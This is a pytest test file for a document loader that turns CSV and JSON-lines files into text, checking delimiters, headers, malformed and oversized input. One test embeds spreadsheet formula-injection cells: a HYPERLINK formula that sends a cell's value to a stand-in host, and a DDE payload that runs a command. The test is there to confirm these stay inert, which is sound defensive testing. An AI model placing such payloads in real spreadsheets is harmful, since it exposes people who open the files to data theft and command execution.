"""CSV and JSON lines: each row a piece of text that stands alone; delimiters, headers, bad lines, hostile cells."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rag.answer import FileReport
from rag.config import Settings
from rag.loading import Loaded, Loader
from rag.loading.delimited import read as read_csv
from rag.loading.jsonlines import read as read_jsonl
from rag.loading.raw import Limits, Refused
from rag.loading.records import looks_like_header
from rag.loading.text import clean
from rag.text.markup import plain

LIMITS = Limits(max_pages=10, max_document_chars=2_000_000)
HEAD = "- Town: Nara; People: 350,000.\n- Town: Kobe; People: 1,500,000.\n"
PROSE = "It was founded long ago and has grown ever since. Its port is one of the largest of the whole country today."


@pytest.fixture(scope="module")
def loader() -> Iterator[Loader]:
    with Loader(Settings(parse_memory_mb=512)) as made:
        yield made


def load(loader: Loader, folder: Path, name: str, data: bytes) -> Loaded | FileReport:
    (folder / name).write_bytes(data)
    return loader.load(folder / name, root="uploads", path=name)


def table(content: str | bytes) -> str:
    return read_csv(content.encode() if isinstance(content, str) else content, LIMITS).text


def notes(content: str) -> tuple[str, ...]:
    return read_csv(content.encode(), LIMITS).notes


def lines(content: str) -> str:
    return read_jsonl(content.encode(), LIMITS).text


@pytest.mark.parametrize(
    "content",
    [
        'Town,People\nNara,"350,000"\nKobe,"1,500,000"\n',
        'Town, People\r\nNara, "350,000"\r\nKobe, "1,500,000"\r\n',
        "Town;People\nNara;350,000\nKobe;1,500,000",
        "Town\tPeople\nNara\t350,000\nKobe\t1,500,000\n",
        "Town|People\nNara|350,000\n\n\nKobe|1,500,000\n",
        "sep=;\nTown;People\nNara;350,000\nKobe;1,500,000\n",
        "\ufeffTown;People\rNara;350,000\rKobe;1,500,000\r",
        "Town;People;\nNara;350,000;\nKobe;1,500,000;\n",
    ],
    ids=["comma", "comma and space", "semicolon", "tab", "bar", "sep", "mark", "empty last"],
)
def test_delimiters_are_found(content: str) -> None:
    assert table(content) == HEAD


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        pytest.param('a,b\n"x\ny","q ""z"""\n', '- a: x y; b: q "z".\n', id="quoted line ends and quotes"),
        pytest.param("町,人口\n奈良,35万人\n", "- 町: 奈良; 人口: 35万人。\n", id="japanese"),
        pytest.param("a,b,c\n1,,3\n,,\n", "- a: 1; c: 3.\n", id="empty cells and rows"),
        pytest.param("a\nx\ny\n", "- a: x.\n- a: y.\n", id="one column"),
        pytest.param(",b\n1,2\n", "- 1; b: 2.\n", id="a column without a name"),
        pytest.param("統計表\n年,値\n1,2\n3,4\n", "統計表\n\n- 年: 1; 値: 2.\n- 年: 3; 値: 4.\n", id="title"),
        pytest.param("country,2023,2024\nJapan,1,2\n", "- country: Japan; 2023: 1; 2024: 2.\n", id="years as names"),
        pytest.param("1,2\n3,4\n", "- Column 1: 1; Column 2: 2.\n- Column 1: 3; Column 2: 4.\n", id="no header"),
        pytest.param("a,b\n*x*,# y | z\n", "- a: \\*x\\*; b: # y | z.\n", id="signs of markdown"),
        pytest.param(f"name,about\nKobe,{PROSE}\n", f"## Kobe\n\n- name: Kobe.\n\nabout: {PROSE}\n", id="prose"),
        pytest.param("q,a\nWho pays?,The state.\n", "## Who pays?\n\n- q: Who pays?; a: The state.\n", id="questions"),
    ],
)  # fmt: skip
def test_rows_become_text(content: str, expected: str) -> None:
    # The name of a record that is prose stands in its heading.
    assert table(content) == expected.replace("- name: Kobe.\n\n", "")


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ("a,b\n1,2\n", ()),
        ("1,2\n3,4\n", ("No line with the names of the columns was found: they are numbered.",)),
        ('a,b\n"x,1\ny,2\n', ("Quotes do not add up in line 2: read as it stands.",)),
        ("a,b\n1,2\n1,2,3\n4,5,6\n", ("There are more values than columns in 2 lines (3, 4).",)),
    ],
)
def test_what_had_to_be_put_right_is_said(content: str, said: tuple[str, ...]) -> None:
    assert notes(content) == said


def test_an_unclosed_quote_swallows_nothing() -> None:
    assert table('a,b\n"x,1\ny,2\n"z",3\n') == '- a: "x; b: 1.\n- a: y; b: 2.\n- a: z; b: 3.\n'


@pytest.mark.parametrize(
    ("first", "rest", "expected"),
    [
        (["name", "town"], [["Mori", "Nara"]], True),
        (["Mori", "Nara"], [["Ueda", "Nara"]], False),
        (["name", "name"], [["x", "y"]], False),
        (["name", "2026-01-02"], [["x", "y"]], False),
        (["name", "x@example.org"], [["x", "y"]], False),
        (["year", "2024"], [["x", "1"]], True),
        (["2023", "2024"], [["1", "2"]], False),
        (["name", "12%"], [["x", "1"]], False),
        (["name"], [], False),
    ],
)
def test_looks_like_header(first: list[str], rest: list[list[str]], expected: bool) -> None:
    assert looks_like_header(first, rest) is expected


def test_formulas_stay_words(loader: Loader, tmp_path: Path) -> None:
    cells = ['=HYPERLINK("http://example.org/?"&A1,"x")', "+1+cmd|'/C calc'!A0", "@SUM(A1)", "-2+3", "\t=1+1"]
    out = io.StringIO()
    csv.writer(out).writerows([["name", "value"], *(["x", cell] for cell in cells)])
    loaded = load(loader, tmp_path, "t.csv", out.getvalue().encode())
    assert isinstance(loaded, Loaded)
    shown = plain(loaded.document.text).split("\n")
    assert shown == [f"- name: x; value: {cell.strip()}." for cell in cells]


@pytest.mark.parametrize(
    ("name", "data", "code", "reason"),
    [
        ("t.csv", b"a,b\n1,\x00\x01\n", "wrong_type", "zero bytes"),
        ("t.csv", b"PK\x03\x04", "wrong_type", "ZIP"),
        ("t.csv", b",,\n,,\n", "empty", "no values"),
        ("t.csv", b'a,b\n"x' + b"x" * 2_100_000 + b'",1\n', "too_long", "2,000,000"),
        ("t.csv", b'"a,b\n' * 100_000, "damaged", "do not add up"),
        ("t.csv", b"a,b\n" + b"1,2\n" * 200_000, "too_long", "2,000,000"),
        ("t.csv", "a,b\n日本,é\n".encode("cp932", "replace") + b"\xff", "encoding", "cannot be told"),
        ("t.jsonl", b"not json\n[1, 2\n", "damaged", "line 1"),
        ("t.jsonl", b"[" * 1_000_000, "damaged", "line 1"),
        ("t.jsonl", b'{"a":' * 50 + b"1" + b"}" * 50, "damaged", "line 1"),
        ("t.jsonl", b"\n \n", "empty", "no values"),
        ("t.jsonl", b'{"a": null, "b": {}}\n', "empty", "no values"),
        ("t.jsonl", json.dumps({str(n): n for n in range(2000)}).encode(), "damaged", "line 1"),
        ("t.jsonl", b'{"a": "\x00"}', "wrong_type", "zero bytes"),
    ],
)
def test_hostile_tables_are_refused(
    loader: Loader, tmp_path: Path, name: str, data: bytes, code: str, reason: str
) -> None:
    report = load(loader, tmp_path, name, data)
    assert isinstance(report, FileReport), report
    assert (report.verdict, report.code) == ("rejected", code)
    assert reason in (report.reason or "")


def test_a_huge_field_is_kept() -> None:
    words = "word " * 50_000
    assert table(f'a,b\nx,"{words}"\n').count("word") == 50_000


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        pytest.param('{"a": 1.10, "b": "x"}\n', "- a: 1.10; b: x.\n", id="figures as written"),
        pytest.param('{"a": {"b": {"c": 1}}}', "- a b c: 1.\n", id="nested"),
        pytest.param('{"a": [1, "x", null, true]}', "- a: 1, x, true.\n", id="list"),
        pytest.param('{"a": [{"b": 1}, {"b": 2}]}', "- a 1 b: 1; a 2 b: 2.\n", id="list of objects"),
        pytest.param('{"a": 1, "a": 2}', "- a: 1; a: 2.\n", id="repeated key"),
        pytest.param('{"a": null, "b": ""}\n{"c": false}', "- c: false.\n", id="nothing"),
        pytest.param('{"a": "x\u2028y"}', "- a: x y.\n", id="line separator inside"),
        pytest.param('{"a": "\\ud800x\\udc00"}', "- a: x.\n", id="lone surrogates"),
        pytest.param('{"a": "\\u0000\\u200bx"}', "- a: x.\n", id="invisible characters"),
        pytest.param('{"a": "\\ud83d\\ude00"}', "- a: 😀.\n", id="pair"),
        pytest.param("[1, 2]\n\"words\"\n3\n", "- 1, 2.\n- words.\n- 3.\n", id="no objects"),
        pytest.param('{"a": 1}\r\n\r\n{"a": 2}\r\n', "- a: 1.\n- a: 2.\n", id="dos"),
        pytest.param(f'{{"n": {"9" * 6000}}}', f"n: {'9' * 6000}\n", id="a number of any length"),
        pytest.param(f'{{"title": "Kobe", "text": "{PROSE}"}}', f"## Kobe\n\ntext: {PROSE}\n", id="prose"),
    ],
)  # fmt: skip
def test_json_lines_become_text(content: str, expected: str) -> None:
    assert lines(content).removeprefix("## Row 1\n\n") == expected


def test_bad_lines_are_said_and_left_out() -> None:
    raw = read_jsonl(b'{"a": 1}\n{"a": \nnot\n' + b"[" * 5000 + b'\n{"a": 2}\n{"a": 1}}\n', LIMITS)
    assert raw.text == "- a: 1.\n- a: 2.\n"
    assert raw.notes == ("Left out, since they are no JSON within the limits: 4 lines (2, 3, 4, 6).",)


def test_prose_records_are_sections(loader: Loader, tmp_path: Path) -> None:
    content = "\n".join(json.dumps({"title": f"Town {n}", "text": PROSE}) for n in range(3))
    loaded = load(loader, tmp_path, "t.jsonl", content.encode())
    assert isinstance(loaded, Loaded)
    document = loaded.document
    assert (document.title, document.language, document.format) == ("t", "en", "jsonl")
    assert [section.path for section in document.sections] == ["Town 0", "Town 1", "Town 2"]
    for section in document.sections:
        assert document.text[section.start : section.end].startswith(f"## {section.heading}\n\ntext: It was")


def test_a_wide_row_is_several_sentences_that_each_say_whose_they_are() -> None:
    names = [f"measure {n}" for n in range(40)]
    content = ",".join(["name", *names]) + "\n" + ",".join(["Kobe", *(f"{n} points" for n in range(40))]) + "\n"
    items = table(content).splitlines()
    assert len(items) > 2
    assert all(item.startswith("- name: Kobe; measure ") and len(item) <= 300 for item in items)
    assert [pair for item in items for pair in item.rstrip(".").split("; ")[1:]] == [
        f"measure {n}: {n} points" for n in range(40)
    ]


def test_few_rows_of_prose_stand_with_their_row() -> None:
    content = f"name,about\nKobe,{PROSE}\nNara,old\nOtsu,small\n"
    assert (
        table(content)
        == f"- name: Kobe.\n\n  about: {PROSE}\n\n- name: Nara; about: old.\n- name: Otsu; about: small.\n"
    )


def words(cell: str) -> list[str]:
    return re.findall(r"\w+", clean(cell)[0].replace("_", " "))


CELLS = st.text(st.sampled_from("abc XYZ 123 ,;\"'\n|*_#-\\`<[](){}.日本ーカé"), max_size=15)


@settings(deadline=None)
@given(st.lists(st.lists(CELLS, min_size=3, max_size=3), min_size=2, max_size=8), st.sampled_from(",;\t|"))
def test_any_table_keeps_the_words_of_its_cells(rows: list[list[str]], delimiter: str) -> None:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, quoting=csv.QUOTE_ALL).writerows([["k", "l", "m"], *rows])
    try:
        raw = read_csv(out.getvalue().encode(), LIMITS)
    except Refused as refused:
        assert refused.code == "empty"  # noqa: PT017 - a third outcome would be the defect
        assert not any(words(cell) for row in rows for cell in row)
        return
    assert clean(raw.text) == (raw.text, 0)
    shown = " ".join(words(plain(raw.text)))
    at = 0
    for row in rows:
        for cell in row:
            wanted = " ".join(words(cell))
            at = shown.find(wanted, at)
            assert at >= 0, (cell, shown)
            at += len(wanted)


VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=10,
)


@settings(deadline=None)
@given(st.lists(VALUES, min_size=1, max_size=5), st.booleans())
def test_any_json_gives_a_sound_text_or_a_refusal(values: list[object], as_ascii: bool) -> None:
    content = "\n".join(json.dumps(value, ensure_ascii=as_ascii) for value in values)
    try:
        raw = read_jsonl(content.encode(), LIMITS)
    except Refused as refused:
        assert refused.code in ("empty", "wrong_type")  # noqa: PT017 - a third outcome would be the defect
        return
    assert clean(raw.text) == (raw.text, 0)
